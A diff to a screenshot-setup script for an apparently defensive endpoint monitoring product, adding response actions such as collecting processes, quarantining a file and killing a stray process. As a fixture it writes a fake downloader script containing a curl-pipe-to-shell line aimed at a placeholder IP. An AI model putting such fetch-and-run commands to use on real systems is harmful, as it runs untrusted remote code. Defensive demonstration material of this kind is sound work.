@@ -19,6 +19,8 @@ trap cleanup EXIT
 server="$BUILD/app/server/yagura-server"
 agent="$BUILD/agent/yagura-agent"
 console="$BUILD/app/console/yagura-console"
+ctl="$BUILD/app/ctl/yagura-ctl"
+export YAGURA_CTL_SESSION="$WORK/ctl-session.json"
 (umask 077 && echo "screenshot-password" >"$WORK/pw")
 "$server" init --data-dir "$WORK/site" --admin-password-file "$WORK/pw" >/dev/null
 "$server" run --data-dir "$WORK/site" --agent-bind 'tcp://127.0.0.1:*' \
@@ -42,6 +44,18 @@ sleep 3 # let the real agent send its inventory before the pictures are taken
 /usr/bin/base64 -d /dev/null
 (cd "$WORK" && /usr/bin/find /usr/bin -maxdepth 1 -perm -4000 >/dev/null)
 sleep 2
+# Response commands carried out by the real agent, for the Response page: a process list, a
+# dropped script quarantined, a stray process killed (by its id and start time).
+"$ctl" --data-dir "$WORK/site" login --user admin --password-file "$WORK/pw" >/dev/null
+"$ctl" collect 1 --kind processes --reason "triage of the discovery alerts" --yes --wait >/dev/null
+printf '#!/bin/sh\ncurl -s http://203.0.113.7/stage2 | sh\n' >"$WORK/update-helper.sh"
+"$ctl" quarantine 1 --path "$WORK/update-helper.sh" --reason "dropped downloader" --yes --wait \
+    >/dev/null
+sleep 300 &
+stray=$!
+ticks=$(awk '{print $22}' "/proc/$stray/stat")
+"$ctl" kill 1 --pid "$stray" --start-ticks "$ticks" --reason "stray shell child" --yes --wait \
+    >/dev/null || true
 
 mkdir -p "$OUT"
 for lang in en ja; do
